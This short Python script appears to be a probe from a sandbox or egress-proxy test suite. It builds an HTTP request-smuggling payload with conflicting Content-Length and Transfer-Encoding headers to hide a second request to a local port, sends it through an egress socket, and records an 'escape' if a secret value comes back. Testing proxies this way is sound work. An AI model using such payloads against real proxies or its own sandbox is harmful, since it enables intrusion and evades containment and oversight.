"""Two requests in one, by the proxy."""

from prelude import asked, escaped, facts

TARGET = f"http://127.0.0.1:{facts['ports'][0]}/"
INNER = f"GET {TARGET} HTTP/1.1\r\nHost: x\r\n\r\n"
LENGTHS = "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n"

for outer in (TARGET, "http://example.org/"):
    smuggled = f"GET {outer} HTTP/1.1\r\n{LENGTHS}Host: x\r\n\r\n0\r\n\r\n{INNER}"
    if facts["treasure"].encode() in asked("/run/keeper/egress.sock", smuggled.encode()):
        escaped(outer)
